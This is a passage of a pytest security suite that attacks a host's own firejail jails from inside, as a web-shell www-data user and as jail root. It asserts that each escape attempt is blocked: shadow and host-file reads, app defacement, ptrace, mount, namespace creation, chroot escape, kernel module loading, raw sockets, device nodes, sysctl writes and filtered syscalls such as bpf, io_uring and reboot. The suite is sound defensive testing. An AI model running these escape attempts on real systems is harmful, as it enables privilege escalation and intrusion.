"""The escape battery: we attack our own jails from inside, and every attempt must be blocked.

Who attacks, and how they get in (see tests/integration/attacklib.py):

* **www-data** - an attacker with code execution in the PHP application. A PHP payload in the
  web jail's document root, requested through the host's published port 80, runs each attempt
  (a Python snippet) with proc_open: a child of an Apache worker, so it really is in the sandbox.
* **root** - root inside a jail, entered by jailenter.py with the namespaces, root directory,
  capability bounding set, rlimits, no_new_privs and seccomp filters of the jail's daemon (the
  Apache parent for the web jail, the postmaster for the db jail): what firejail --join gives a
  non-root user. test_root_attacker_has_the_confinement_of_the_daemon checks that match first.

Every test asserts the blocking evidence (an errno, a timeout, a file that is absent, a listener
that saw nothing) and prints what it tried and what happened (pytest -s or -v -rA shows it).
The suite runs on the full stack of playbooks/site.yml with inventory/lab (vars.yml).
"""

from __future__ import annotations

import json
import shlex
import time
import uuid

import pytest

from attacklib import PRELUDE, WebShell, install_jailenter, jail_run
from hostlib import jail_pids, load_vars, proc_status, public_address, wait_until

VARS = load_vars(__file__)
WEB = VARS["apache_jail"]
DB = "db"
WEB_IP = VARS["apache_ip"]
DB_IP = VARS["postgresql_address"]
BRIDGE_IP = VARS["bridge_address"].split("/")[0]
WEB_ROOT = f"/var/lib/jailhost/jails/{WEB}/root"
DB_ROOT = f"/var/lib/jailhost/jails/{DB}/root"
APP_ROOT = VARS["apache_vhosts"][0]["document_root"]
SERVER_NAME = VARS["apache_vhosts"][0]["server_name"]
MARK = f"jh-escape-{uuid.uuid4().hex[:10]}"
# A stand-in for "the outside": a network namespace on the test host routed by the host, like
# the Internet behind the uplink. Egress of the jails is denied in the lab inventory.
OUT_NS, OUT_HOST_IP, OUT_IP = "jh-out", "198.51.100.1", "198.51.100.2"
LISTEN = "/usr/local/lib/jailhost-test/listen.py"
HOST_PORT = 18222          # a service listening on every address of the test host
DB_EXTRA_PORTS = (22, 8081)  # services in the db jail other than PostgreSQL

LISTENER = r'''
import socket, sys, threading
log, specs = sys.argv[1], sys.argv[2:]
def record(line):
    with open(log, "a") as f:
        f.write(line + "\n")
def tcp(addr, port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port)); s.listen(16)
    while True:
        c, peer = s.accept(); record(f"tcp {addr}:{port} from {peer[0]}"); c.sendall(b"hello\n"); c.close()
def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((addr, port))
    while True:
        data, peer = s.recvfrom(4096); record(f"udp {addr}:{port} from {peer[0]} {data[:60]!r}")
for spec in specs:
    proto, addr, port = spec.split(":")
    threading.Thread(target=tcp if proto == "tcp" else udp, args=(addr, int(port)), daemon=True).start()
record("ready")
threading.Event().wait()
'''


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def shell(host):
    wait_until(lambda: host.service(f"jailhost-{WEB}.service").is_running, timeout=30)
    web = WebShell(host, WEB_ROOT, APP_ROOT, SERVER_NAME)
    web.install()
    try:
        wait_until(lambda: _answers(web), timeout=30)
        yield web
    finally:
        web.remove()


def _answers(web) -> bool:
    try:
        return web.sh("echo ok")[1] == "ok\n"
    except Exception:  # noqa: BLE001 - Apache may still be starting after another suite's reboot
        return False


@pytest.fixture(scope="module")
def root_entry(host):
    install_jailenter(host)


@pytest.fixture(scope="module")
def planted(host):
    """Files that exist outside the web jail: on the host, in the db jail, in the shared base."""
    paths = [f"/root/{MARK}", f"/etc/{MARK}", f"/var/lib/jailhost/{MARK}", f"{DB_ROOT}/srv/{MARK}"]
    host.run_expect([0], " && ".join(f"echo secret > {p}" for p in paths))
    yield paths
    host.run(f"rm -f {' '.join(paths)}")


@pytest.fixture(scope="module")
def listeners(host):
    """TCP/UDP listeners that log every connection: on the host, in the db jail, and outside."""
    host.run_expect([0], f"mkdir -p {LISTEN.rsplit('/', 1)[0]}")
    marker = f"EOF_{uuid.uuid4().hex}"
    host.run_expect([0], f"cat > {LISTEN} <<'{marker}'\n{LISTENER}{marker}")
    host.run_expect([0], f"""
        ip netns del {OUT_NS} 2>/dev/null; ip link del h-{OUT_NS} 2>/dev/null
        ip netns add {OUT_NS}
        ip link add h-{OUT_NS} type veth peer name eth0 netns {OUT_NS}
        ip addr add {OUT_HOST_IP}/30 dev h-{OUT_NS}; ip link set h-{OUT_NS} up
        ip -n {OUT_NS} link set lo up; ip -n {OUT_NS} addr add {OUT_IP}/30 dev eth0
        ip -n {OUT_NS} link set eth0 up; ip -n {OUT_NS} route add default via {OUT_HOST_IP}""")
    _, _, db_daemons = jail_pids(host, DB)
    logs = {"host": f"/run/{MARK}-host.log", "db": f"/run/{MARK}-db.log", "out": f"/run/{MARK}-out.log"}
    starts = {
        "host": f"python3 {LISTEN} {logs['host']} tcp:0.0.0.0:{HOST_PORT} udp:{BRIDGE_IP}:53",
        "db": f"nsenter -t {db_daemons[0]} -n python3 {LISTEN} {logs['db']} "
              + " ".join(f"tcp:{DB_IP}:{p}" for p in DB_EXTRA_PORTS),
        "out": f"ip netns exec {OUT_NS} python3 {LISTEN} {logs['out']} tcp:{OUT_IP}:80 tcp:{OUT_IP}:443 "
               f"tcp:{OUT_IP}:53 udp:{OUT_IP}:53",
    }
    pids = []
    for name, start in starts.items():
        pids.append(host.check_output(f"setsid {start} >/dev/null 2>&1 </dev/null & echo $!"))
    for log in logs.values():
        wait_until(lambda log=log: "ready" in host.run(f"cat {log}").stdout, timeout=10)
    yield logs
    host.run(f"kill {' '.join(pids)}; rm -f {' '.join(logs.values())}; ip netns del {OUT_NS}")


def seen(host, log: str) -> list[str]:
    """Connections a listener logged after 'ready'."""
    return [line for line in host.run(f"cat {log}").stdout.splitlines() if line != "ready"]


def blocked(result: dict, label: str, *errnos: str) -> None:
    entry = result[label]
    assert not entry["ok"], f"{label} was NOT blocked: {entry}"
    assert entry["errno"] in errnos, f"{label}: expected {errnos}, got {entry}"


def as_root(host, code: str, jail: str = WEB) -> dict:
    return jail_run(host, jail, code, user="root")


# --------------------------------------------------------------------------- who attacks


def test_web_attacker_runs_as_www_data_with_the_worker_confinement(host, shell):
    """Precondition of the www-data attempts: the payload's process is confined like a worker."""
    me = shell.py("")["self"]
    assert me["Uid"].split() == ["33"] * 4
    _, _, (parent, *_) = jail_pids(host, WEB)
    worker = int(host.check_output(f"cat /proc/{parent}/task/*/children").split()[0])
    status = proc_status(host, worker)
    for key in ("Seccomp", "Seccomp_filters", "NoNewPrivs", "CapBnd"):
        assert me[key] == status[key], f"{key}: payload {me[key]}, worker {status[key]}"
    assert me["CapEff"] == "0000000000000000" and me["NoNewPrivs"] == "1"


@pytest.mark.parametrize("jail", [WEB, DB])
def test_root_attacker_has_the_confinement_of_the_daemon(host, root_entry, jail):
    """Precondition of the root attempts: jailenter's process is confined like the jail's daemon."""
    me = jail_run(host, jail, "")["self"]
    _, _, daemons = jail_pids(host, jail)
    status = proc_status(host, daemons[0])
    assert me["Uid"].split()[0] == "0"
    for key in ("Seccomp", "Seccomp_filters", "NoNewPrivs", "CapBnd"):
        assert me[key] == status[key], f"{key}: attacker {me[key]}, {jail} daemon {status[key]}"
    assert int(me["Seccomp_filters"]) > int(proc_status(host, 1)["Seccomp_filters"])


# --------------------------------------------------------------------------- files


def test_www_data_cannot_read_the_shadow_file(shell):
    result = shell.py("attempt('shadow', lambda: open('/etc/shadow').read())")
    blocked(result, "shadow", "EACCES")


def test_root_in_jail_sees_its_own_shadow_not_the_hosts(host, root_entry):
    host_hash = host.check_output("sha256sum /etc/shadow").split()[0]
    result = as_root(host, "import hashlib\n"
                           "attempt('hash', lambda: hashlib.sha256(open('/etc/shadow','rb').read()).hexdigest())")
    assert result["hash"]["ok"], result
    assert result["hash"]["value"] != host_hash, "the jail reads the host's /etc/shadow"


def test_host_files_are_absent_for_www_data(shell, planted):
    result = shell.py(f"for p in {planted[:3]!r}: attempt(p, lambda p=p: open(p).read())")
    blocked(result, planted[0], "EACCES", "ENOENT")  # /root is a private tmpfs (0700)
    blocked(result, planted[1], "ENOENT")
    blocked(result, planted[2], "ENOENT")


def test_host_files_are_absent_for_root_in_the_jail(host, root_entry, planted):
    result = as_root(host, f"for p in {planted[:3]!r}: attempt(p, lambda p=p: open(p).read())\n"
                           "attempt('root', lambda: sorted(os.listdir('/root')))\n"
                           f"attempt('find', lambda: os.popen('find / -xdev -name {MARK} 2>/dev/null').read())")
    for path in planted[:3]:
        blocked(result, path, "ENOENT")
    assert MARK not in json.dumps(result["root"]) and result["find"]["value"] == ""


def test_other_jails_roots_are_unreachable(host, root_entry, planted):
    db_file = planted[3]
    result = as_root(host, f"attempt('path', lambda: open({db_file!r}).read())\n"
                           f"attempt('inside', lambda: open('/srv/{MARK}').read())\n"
                           "attempt('pgdata', lambda: os.listdir('/var/lib/postgresql'))\n"
                           "attempt('roots', lambda: [r for r in os.popen("
                           "'ls -d /proc/[0-9]*/root/var/lib/postgresql 2>/dev/null').read().split()])")
    blocked(result, "path", "ENOENT")
    blocked(result, "inside", "ENOENT")
    blocked(result, "pgdata", "ENOENT")
    assert result["roots"]["value"] == [], "a process of the db jail is visible"


def test_root_in_jail_cannot_change_the_shared_base(host, root_entry):
    """Root in the jail owns its files and may write them, but the write lands in the web jail's
    own overlay layer: the base image all jails share, and the db jail, never see it."""
    base = host.check_output(f"cat /var/lib/jailhost/jails/{WEB}/base").strip()
    probe = f"/usr/lib/{MARK}"
    result = as_root(host, f"attempt('write', lambda: open({probe!r}, 'w').write('x'))")
    try:
        assert result["write"]["ok"], "control: root in the jail writes its own /usr/lib"
        assert host.file(f"/var/lib/jailhost/jails/{WEB}/upper{probe}").exists, "the write is not in the jail's layer"
        assert not host.file(f"{base}{probe}").exists, "the jail wrote into the shared base"
        assert not host.file(f"{DB_ROOT}{probe}").exists, "the write is visible in the db jail"
    finally:
        as_root(host, f"attempt('cleanup', lambda: os.unlink({probe!r}))")


@pytest.mark.parametrize("directory", ["/etc", "/usr/bin", "/usr/lib", "/var/lib", "/sbin"])
def test_www_data_cannot_write_system_directories(shell, directory):
    result = shell.py(f"attempt('write', lambda: open({directory!r} + '/{MARK}', 'w'))")
    blocked(result, "write", "EACCES")


def test_www_data_cannot_change_the_application(host, shell):
    before = host.check_output(f"sha256sum {WEB_ROOT}{APP_ROOT}/index.php")
    result = shell.py(f"attempt('deface', lambda: open('{APP_ROOT}/index.php', 'a').write('owned'))\n"
                      f"attempt('drop', lambda: open('{APP_ROOT}/{MARK}.php', 'w'))")
    blocked(result, "deface", "EACCES")
    blocked(result, "drop", "EACCES")
    assert host.check_output(f"sha256sum {WEB_ROOT}{APP_ROOT}/index.php") == before


def test_host_control_sockets_and_firejail_state_are_absent(host, shell):
    """The host's systemd, D-Bus and journal sockets, and firejail's state of the host (the
    name file of the web jail's own sandbox, which names its host PID)."""
    main = host.check_output(f"systemctl show -p MainPID --value jailhost-{WEB}.service")
    assert host.file(f"/run/firejail/name/{main}").exists, "control: the state file exists on the host"
    paths = ["/run/systemd/private", "/run/dbus/system_bus_socket", f"/run/firejail/name/{main}",
             "/var/run/docker.sock", "/run/systemd/journal/socket", "/run/systemd/notify"]
    result = shell.py(f"for p in {paths!r}: attempt(p, lambda p=p: os.stat(p))")
    for path in paths:
        blocked(result, path, "ENOENT")


# --------------------------------------------------------------------------- processes


@pytest.fixture
def sentinel(host):
    """A process on the host running as www-data's uid: only the PID namespace protects it."""
    link = "/usr/local/lib/jailhost-test/jhsentinel"
    host.run_expect([0], f"ln -sf /bin/sleep {link}")
    pid = int(host.check_output(f"setsid setpriv --reuid=33 --regid=33 --clear-groups {link} 600 "
                                ">/dev/null 2>&1 </dev/null & echo $!"))
    yield pid
    host.run(f"kill {pid}")


def test_host_processes_are_invisible(shell, sentinel):
    result = shell.py("attempt('comms', lambda: sorted({open(f'/proc/{p}/comm').read().strip() "
                      "for p in os.listdir('/proc') if p.isdigit() and os.path.exists(f'/proc/{p}/comm')}))\n"
                      "attempt('count', lambda: len([p for p in os.listdir('/proc') if p.isdigit()]))")
    comms = result["comms"]["value"]
    assert "jhsentinel" not in comms and "sshd" not in comms and "systemd" not in comms, comms
    assert "postgres" not in comms, comms
    assert set(comms) <= {"firejail", "apache2", "sh", "python3", "ls", "php"}, comms


def test_host_processes_cannot_be_signalled(host, shell, sentinel):
    result = shell.py(f"pid = {sentinel}\n"
                      "out['collision'] = os.path.exists(f'/proc/{pid}')\n"
                      "if not out['collision']: attempt('kill', lambda: os.kill(pid, 9))")
    assert result["collision"] is False, "the sentinel's host PID exists inside the jail: rerun"
    blocked(result, "kill", "ESRCH")
    assert host.run(f"kill -0 {sentinel}").rc == 0, "the host process died"


def test_root_in_jail_cannot_signal_host_processes(host, root_entry, sentinel):
    result = as_root(host, f"pid = {sentinel}\n"
                           "out['collision'] = os.path.exists(f'/proc/{pid}')\n"
                           "if not out['collision']: attempt('kill', lambda: os.kill(pid, 9))")
    assert result["collision"] is False
    blocked(result, "kill", "ESRCH")
    assert host.run(f"kill -0 {sentinel}").rc == 0


PTRACE = r'''
child = os.fork()
if child == 0:
    time.sleep(5); os._exit(0)
attempt('attach', lambda: syscall(101, 16, child, 0, 0))     # ptrace(PTRACE_ATTACH, child)
buf = ctypes.create_string_buffer(8)
iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)
attempt('vm_readv', lambda: syscall(310, child, ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0))
attempt('proc_mem', lambda: open(f'/proc/{child}/mem', 'rb').read(1))
os.kill(child, 9); os.waitpid(child, 0)
'''


def test_www_data_cannot_ptrace_its_own_child(shell):
    """Its own child, same uid: only seccomp stands in the way (Yama would allow it)."""
    result = shell.py(PTRACE)
    blocked(result, "attach", "EPERM")
    blocked(result, "vm_readv", "EPERM")


def test_root_in_jail_cannot_ptrace(host, root_entry):
    result = as_root(host, PTRACE)
    blocked(result, "attach", "EPERM")
    blocked(result, "vm_readv", "EPERM")


# --------------------------------------------------------------------------- kernel interfaces

MOUNT = r'''
os.makedirs('/tmp/m', exist_ok=True)
attempt('tmpfs', lambda: syscall(165, b'none', b'/tmp/m', b'tmpfs', 0, 0))
attempt('bind_root', lambda: syscall(165, b'/', b'/tmp/m', 0, 4096, 0))   # MS_BIND
attempt('umount_proc', lambda: syscall(166, b'/proc', 2))                   # umount2 MNT_DETACH
'''


def test_www_data_cannot_mount(shell):
    result = shell.py(MOUNT)
    for label in ("tmpfs", "bind_root", "umount_proc"):
        blocked(result, label, "EPERM")


def test_root_in_jail_cannot_mount(host, root_entry):
    result = as_root(host, MOUNT)
    for label in ("tmpfs", "bind_root", "umount_proc"):
        blocked(result, label, "EPERM")


UNSHARE = r'''
for name, flag in (('user', 0x10000000), ('mount', 0x00020000), ('net', 0x40000000), ('pid', 0x20000000)):
    attempt(name, lambda flag=flag: syscall(272, flag))
attempt('unshare_cmd', lambda: os.popen('unshare -U -r id -u 2>&1').read())
'''


def test_www_data_cannot_create_namespaces(shell):
    result = shell.py(UNSHARE)
    for label in ("user", "mount", "net", "pid"):
        blocked(result, label, "EPERM")
    assert result["unshare_cmd"]["value"].strip() != "0"


def test_root_in_jail_cannot_create_namespaces(host, root_entry):
    result = as_root(host, UNSHARE)
    for label in ("user", "mount", "net", "pid"):
        blocked(result, label, "EPERM")


def test_root_in_jail_cannot_chroot_back_out(host, root_entry):
    """The classic escape: chroot into a subdirectory, walk up with .., chroot(".")."""
    result = as_root(host, "os.makedirs('/tmp/x', exist_ok=True)\n"
                           "attempt('chroot', lambda: os.chroot('/tmp/x'))\n"
                           "attempt('pivot_root', lambda: syscall(155, b'/tmp', b'/tmp/x'))\n"
                           "attempt('proc1root', lambda: os.listdir('/proc/1/root/var/lib'))")
    blocked(result, "chroot", "EPERM")
    blocked(result, "pivot_root", "EPERM")
    # PID 1 of the jail is the sandbox itself, chrooted like us: no host tree behind /proc/1/root
    assert "jailhost" not in json.dumps(result["proc1root"])


MODULE = r'''
attempt('init_module', lambda: syscall(175, 0, 0, b''))
fd = os.open('/dev/null', os.O_RDONLY)
attempt('finit_module', lambda: syscall(313, fd, b'', 0))
attempt('delete_module', lambda: syscall(176, b'overlay', 0))
'''


def test_www_data_cannot_load_a_kernel_module(shell):
    result = shell.py(MODULE)
    for label in ("init_module", "finit_module", "delete_module"):
        blocked(result, label, "EPERM")


def test_root_in_jail_cannot_load_a_kernel_module(host, root_entry):
    before = host.check_output("cat /proc/modules 2>/dev/null | wc -l")
    result = as_root(host, MODULE)
    for label in ("init_module", "finit_module", "delete_module"):
        blocked(result, label, "EPERM")
    assert host.check_output("cat /proc/modules 2>/dev/null | wc -l") == before


SOCKETS = r'''
attempt('raw_icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
attempt('raw_tcp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP).close())
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close())
attempt('inet_ok', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close())
'''


def test_www_data_cannot_open_raw_or_packet_sockets(shell):
    result = shell.py(SOCKETS)
    blocked(result, "raw_icmp", "EPERM")      # no CAP_NET_RAW
    blocked(result, "raw_tcp6", "EOPNOTSUPP")  # protocol unix,inet (seccomp): no IPv6 at all
    blocked(result, "packet", "EOPNOTSUPP")
    blocked(result, "netlink", "EOPNOTSUPP")
    assert result["inet_ok"]["ok"], "control: an ordinary TCP socket must work"


def test_root_in_jail_cannot_open_raw_or_packet_sockets(host, root_entry):
    result = as_root(host, SOCKETS)
    blocked(result, "raw_icmp", "EPERM")
    blocked(result, "raw_tcp6", "EOPNOTSUPP")
    blocked(result, "packet", "EOPNOTSUPP")
    blocked(result, "netlink", "EOPNOTSUPP")



IPV6 = r'''
attempt('inet6_tcp', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM).close())
attempt('inet6_udp', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close())
'''
# From a jail's network namespace, by a host process (no seccomp filter): a TCP connection to
# ADDR (scope eth0) on PORT; "refused" (a reset came back) or "connected" both mean the packet arrived.
IPV6_CONNECT = ("import socket, sys\n"
                "s = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
                "try:\n    s.connect((sys.argv[1], int(sys.argv[2]), 0, socket.if_nametoindex('eth0'))); print('connected')\n"
                "except ConnectionRefusedError:\n    print('refused')\n"
                "except OSError as e:\n    print('blocked', e)\n")


def link_local(host, jail: str) -> str:
    """The fe80:: address of JAIL's eth0 (every interface gets one while IPv6 is on)."""
    _, _, daemons = jail_pids(host, jail)
    line = host.check_output(f"nsenter -t {daemons[0]} -n ip -6 -o addr show dev eth0 scope link")
    return line.split()[3].split("/")[0]


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_ipv6_between_jails_is_closed(host, shell, root_entry, who):
    """The FORWARD rules between jails are IPv4 rules; IPv6 would pass the bridge unfiltered
    (each jail's eth0 has a link-local address). The jails may open no IPv6 socket at all
    (protocol unix,inet). CONTROL: from the web jail's network namespace, without the jail's
    seccomp filter, a connection to the db jail's link-local address on a closed port is
    answered with a reset: the path is open, only the filter closes it."""
    result = shell.py(IPV6) if who == "www-data" else as_root(host, IPV6)
    blocked(result, "inet6_tcp", "EOPNOTSUPP")
    blocked(result, "inet6_udp", "EOPNOTSUPP")
    target = link_local(host, DB)
    _, _, web = jail_pids(host, WEB)
    control = host.check_output(f"nsenter -t {web[0]} -n python3 -c {shlex.quote(IPV6_CONNECT)} {target} 5433")
    print(f"  control (host process in the web jail's network namespace) -> [{target}]:5433: {control}")
    assert control in ("refused", "connected"), control


IO_URING = r'''
params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
attempt('io_uring_setup', lambda: syscall(425, 4, params))
'''


@pytest.mark.parametrize("who,jail", [("www-data", WEB), ("root", WEB), ("root", DB)])
def test_io_uring_is_denied(host, shell, root_entry, who, jail):
    """io_uring (the largest source of recent kernel privilege escalations) is denied in every
    jail: firejail's seccomp list plus io_uring_setup/enter/register. CONTROL: uid 33 on the
    test host, outside any jail, gets an io_uring descriptor."""
    result = shell.py(IO_URING) if who == "www-data" else as_root(host, IO_URING, jail)
    blocked(result, "io_uring_setup", "EPERM")
    control = host.run(f"setpriv --reuid=33 --regid=33 --clear-groups python3 - <<'EOF'\n"
                       f"{PRELUDE}{IO_URING}\nprint(json.dumps(out))\nEOF")
    outside = json.loads(control.stdout.strip().splitlines()[-1])
    print(f"  control (uid 33 on the host, no jail): {outside['io_uring_setup']}")
    assert outside["io_uring_setup"]["ok"], outside


def test_root_in_jail_cannot_change_the_jail_network(host, root_entry):
    """Spoofing another jail's address needs CAP_NET_ADMIN (and netlink, which is filtered)."""
    result = as_root(host, "import fcntl, struct\n"
                           "s = socket.socket()\n"
                           f"req = struct.pack('16sH2s4s8s', b'eth0', socket.AF_INET, b'\\0\\0', "
                           f"socket.inet_aton('{DB_IP}'), b'\\0' * 8)\n"
                           "attempt('siocsifaddr', lambda: fcntl.ioctl(s, 0x8916, req))\n"
                           "attempt('ip_forward', lambda: open('/proc/sys/net/ipv4/ip_forward', 'w').write('1'))")
    blocked(result, "siocsifaddr", "EPERM")
    blocked(result, "ip_forward", "EROFS", "EACCES", "EPERM")


MKNOD = r'''
import stat
attempt('block', lambda: os.mknod('/tmp/sda', stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt('mem', lambda: os.mknod('/tmp/mem', stat.S_IFCHR | 0o600, os.makedev(1, 1)))
attempt('in_dev', lambda: os.mknod('/dev/kmem', stat.S_IFCHR | 0o600, os.makedev(1, 2)))
'''


def test_www_data_cannot_create_devices(shell):
    result = shell.py(MKNOD)
    blocked(result, "block", "EPERM")
    blocked(result, "mem", "EPERM")
    blocked(result, "in_dev", "EACCES", "EPERM")


def test_root_in_jail_cannot_create_devices(host, root_entry):
    result = as_root(host, MKNOD)
    blocked(result, "block", "EPERM")
    blocked(result, "mem", "EPERM")
    blocked(result, "in_dev", "EPERM")


DEVICES = r'''
out['listing'] = sorted(os.listdir('/dev'))
for dev in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/loop0', '/dev/tty0', '/dev/net/tun', '/dev/port'):
    attempt(dev, lambda dev=dev: os.open(dev, os.O_RDONLY))
'''
ALLOWED_DEV = {"console", "full", "null", "ptmx", "pts", "random", "shm", "tty", "urandom", "zero",
               "fd", "stdin", "stdout", "stderr", "log"}


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_host_devices_are_absent(host, shell, root_entry, who):
    result = shell.py(DEVICES) if who == "www-data" else as_root(host, DEVICES)
    for dev in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/loop0', '/dev/tty0', '/dev/net/tun',
                '/dev/port'):
        blocked(result, dev, "ENOENT")
    assert set(result["listing"]) <= ALLOWED_DEV, set(result["listing"]) - ALLOWED_DEV


# Each write puts back the value that is there: harmless if it ever got through; the errno is the
# evidence. firejail remounts /proc/sys read-only and bind-mounts an empty file over core_pattern.
SYSCTLS = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/panic",
           "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/pid_max"]
SYS_FILES = ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/class/net/lo/mtu"]
PROC_SYS = r'''
for path in @PATHS@:
    def rewrite(path=path):
        value = open(path).read()
        with open(path, 'w') as f:
            f.write(value)
    attempt(path, rewrite)
'''


@pytest.mark.parametrize("who", ["www-data", "root"])
def test_proc_sys_and_sys_are_read_only(host, shell, root_entry, who):
    paths = [p for p in SYSCTLS + SYS_FILES if host.file(p).exists]
    assert len(paths) >= 5, paths
    code = PROC_SYS.replace("@PATHS@", repr(paths))
    result = shell.py(code) if who == "www-data" else as_root(host, code)
    for path in paths:
        # core_pattern is an empty read-only file in the jail: the read works, the write not
        blocked(result, path, "EROFS", "EACCES", "ENOENT")


SECCOMP = r'''
attempt('keyctl', lambda: syscall(250, 0, -3, 0))          # KEYCTL_GET_KEYRING_ID, session keyring
attempt('add_key', lambda: syscall(248, b'user', b'jh', b'x', 1, -3))
attempt('bpf', lambda: syscall(321, 0, 0, 0))               # BPF_MAP_CREATE
attempt('userfaultfd', lambda: syscall(323, 0))
attempt('perf_event_open', lambda: syscall(298, 0, 0, -1, -1, 0))
attempt('kexec_load', lambda: syscall(246, 0, 0, 0, 0))
attempt('personality', lambda: syscall(135, 0x0040000))     # ADDR_NO_RANDOMIZE
'''


def test_www_data_keyctl_bpf_and_friends_are_filtered(host, shell):
    result = shell.py(SECCOMP)
    for label in ("keyctl", "add_key", "bpf", "userfaultfd", "perf_event_open", "kexec_load"):
        blocked(result, label, "EPERM")
    # The same calls on the test host as uid 33 outside the jail: what the jail's filter changes.
    control = host.run(f"setpriv --reuid=33 --regid=33 --clear-groups python3 - <<'EOF'\n"
                       f"{PRELUDE}{SECCOMP}\nprint(json.dumps(out))\nEOF")
    print(f"  control (uid 33 on the host, no jail): {control.stdout.strip()}")
    outside = json.loads(control.stdout.strip().splitlines()[-1])
    # The lab host is itself a systemd-nspawn container, whose own seccomp filter refuses keyctl,
    # bpf, ... outside the jail too. personality() is allowed there and refused in the jail, and
    # the jail's processes carry firejail's filters on top of the host's.
    assert outside["personality"]["ok"], outside
    blocked(result, "personality", "EPERM")
    assert int(result["self"]["Seccomp_filters"]) > int(outside["self"]["Seccomp_filters"]), (result["self"], outside)


def test_root_in_jail_keyctl_bpf_and_friends_are_filtered(host, root_entry):
    result = as_root(host, SECCOMP + "attempt('settime', lambda: syscall(164, 0, 0))\n"
                                     "attempt('sethostname', lambda: syscall(170, b'owned', 5))\n"
                                     "attempt('swapon', lambda: syscall(167, b'/tmp', 0))\n"
                                     "attempt('reboot_cad', lambda: syscall(169, 0xfee1dead, 672274793, 0, 0))")
    for label in ("keyctl", "add_key", "bpf", "userfaultfd", "perf_event_open", "kexec_load", "settime",
                  "sethostname", "swapon", "reboot_cad"):
        blocked(result, label, "EPERM")
    assert host.check_output("hostname") != "owned"


CONTROL_DIR = "/usr/local/lib/jailhost-test"


def test_setuid_binary_gains_nothing(host, shell):
    """A setuid-root program (planted by the test: a copy of id) runs without privilege."""
    path = f"/usr/local/bin/{MARK}-id"
    host.run_expect([0], f"cp {WEB_ROOT}/usr/bin/id {WEB_ROOT}{path} && chmod 4755 {WEB_ROOT}{path}")
    try:
        rc, stdout, _ = shell.sh(f"{path} -u; {path} -ru; grep -E '^(Uid|NoNewPrivs)' /proc/self/status")
        assert rc == 0
        assert stdout.splitlines()[:2] == ["33", "33"], f"the setuid binary gained privileges: {stdout}"
        # the same file outside the jail really is setuid-root: the attempt can succeed (a copy
        # with the same mode in a host directory: the jails directory is root's alone)
        host.run_expect([0], f"mkdir -p {CONTROL_DIR} && cp -p {WEB_ROOT}{path} {CONTROL_DIR}/{MARK}-id")
        control = host.check_output(f"setpriv --reuid=33 --regid=33 --clear-groups {CONTROL_DIR}/{MARK}-id -u")
        assert control == "0"
        result = shell.py("attempt('su', lambda: os.popen('su -c id root </dev/null 2>&1').read())")
        assert "uid=0" not in result["su"]["value"]
    finally:
        host.run(f"rm -f {WEB_ROOT}{path} {CONTROL_DIR}/{MARK}-id")


def test_system_v_ipc_of_the_host_is_invisible(host, shell):
    shmid = host.check_output("ipcmk -M 4096 -p 0666 | awk '{print $NF}'")
    try:
        assert shmid.isdigit(), "could not create a shared memory segment on the host"
        result = shell.py(f"attempt('shmat', lambda: syscall(30, {shmid}, 0, 0))\n"          # shmat
                          "attempt('ipcs', lambda: open('/proc/sysvipc/shm').read().splitlines()[1:])")
        blocked(result, "shmat", "EINVAL", "EIDRM")
        assert result["ipcs"]["value"] == [], result["ipcs"]
    finally:
        host.run(f"ipcrm -m {shmid}")


def test_abstract_unix_sockets_of_the_host_are_unreachable(host, shell):
    name = f"jailhost-escape-{uuid.uuid4().hex[:8]}"
    pid = host.check_output(
        f"setsid python3 -c \"import socket,time; s=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); "
        f"s.listen(1); time.sleep(120)\" >/dev/null 2>&1 </dev/null & echo $!")
    try:
        wait_until(lambda: name in host.check_output("cat /proc/net/unix"), timeout=5)
        result = shell.py(f"s = socket.socket(socket.AF_UNIX)\n"
                          f"attempt('connect', lambda: s.connect('\\0{name}'))")
        blocked(result, "connect", "ECONNREFUSED")
    finally:
        host.run(f"kill {pid}")


# --------------------------------------------------------------------------- network


def test_control_the_declared_flow_to_postgresql_works(shell):
    """Not an attempt: the network tests below would prove nothing if the jail had no network."""
    result = shell.py(f"attempt('pg', lambda: connect('{DB_IP}', 5432))")
    assert result["pg"] == {"ok": True, "value": "connected"}


def test_host_ssh_on_the_bridge_address_is_unreachable(host, shell):
    assert host.run(f"ss -Hltn 'sport = :22' | grep -q .").rc == 0, "no sshd on the test host"
    result = shell.py(f"attempt('ssh', lambda: connect('{BRIDGE_IP}', 22))")
    blocked(result, "ssh", "timeout")


def test_host_ssh_on_the_uplink_address_is_unreachable(host, shell):
    uplink = host.check_output("ip -4 -o addr show scope global | awk '$2 != \"br0\" && $2 !~ /^h-/ "
                               "{sub(\"/.*\", \"\", $4); print $4; exit}'")
    assert uplink, "no uplink address"
    result = shell.py(f"attempt('ssh', lambda: connect('{uplink}', 22))")
    blocked(result, "ssh", "timeout")


def test_any_host_port_on_the_bridge_address_is_unreachable(host, shell, listeners):
    assert host.check_output(f"python3 -c \"import socket; s=socket.create_connection(('{BRIDGE_IP}', "
